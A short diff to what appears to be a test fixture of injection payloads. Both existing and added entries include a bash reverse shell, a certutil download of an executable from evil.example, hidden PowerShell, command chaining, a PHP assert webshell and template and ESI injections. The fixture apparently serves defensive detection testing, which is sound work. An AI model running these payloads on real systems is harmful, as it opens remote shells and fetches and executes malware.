@@ -23,6 +23,7 @@ export const INJECTION_CASES: readonly NamedCases[] = [
       'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
       'powershell -nop -w hidden -c x',
       '127.0.0.1|id',
+      'cmd.exe /c certutil -urlcache -f http://evil.example/a.exe a.exe',
     ],
   },
   {
@@ -151,6 +152,7 @@ export const INJECTION_CASES: readonly NamedCases[] = [
       "assert($_POST['a'])",
       '<esi:include src="http://evil.example/"/>',
       'process.mainModule.require("fs")',
+      '{php}echo `id`;{/php}',
     ],
   },
   {
